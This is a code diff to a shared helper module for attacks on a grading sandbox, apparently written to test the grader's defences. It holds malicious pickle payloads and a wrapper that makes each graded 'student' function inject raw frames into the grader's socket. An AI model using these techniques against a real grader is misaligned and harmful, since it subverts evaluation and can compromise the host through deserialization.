@@ -1,5 +1,6 @@
 """Helpers shared by several attacks (copied next to them as student/_common.py)."""
 import io
+import os
 import pickle
 import struct
 import sys
@@ -56,3 +57,31 @@ def evil_frames() -> list[bytes]:
     torch.save({"ok": True, "value": Evil()}, buffer)
     raw = pickle.dumps({"ok": True, "value": Evil()}, protocol=2)
     return [struct.pack("!Q", len(data)) + data for data in (raw, buffer.getvalue())]
+
+
+SOCKET_FD = 3   # the sandbox's socket to the grader
+
+
+def frame(header: dict, data: bytes = b"") -> bytes:
+    """A frame as the wire carries one: its length, the JSON header's length, the header, the tensor bytes."""
+    import json
+    text = json.dumps(header).encode()
+    body = struct.pack("!I", len(text)) + text + data
+    return struct.pack("!Q", len(body)) + body
+
+
+def install_sending_first(api, raws) -> None:
+    """Every graded function first writes raw bytes straight into the socket (`raws`: bytes, or a list handed out
+    to the functions in turn), then behaves like the stub."""
+    raws = [raws] if isinstance(raws, bytes) else raws
+
+    def sending(function, raw):
+        def call(*args, **kwargs):
+            try:
+                os.write(SOCKET_FD, raw)
+            except OSError as error:
+                print(f"could not write to the socket: {error}")
+            return function(*args, **kwargs)
+        return call
+    for index, name in enumerate(FUNCTIONS):
+        api[name] = sending(stub(api, name), raws[index % len(raws)])
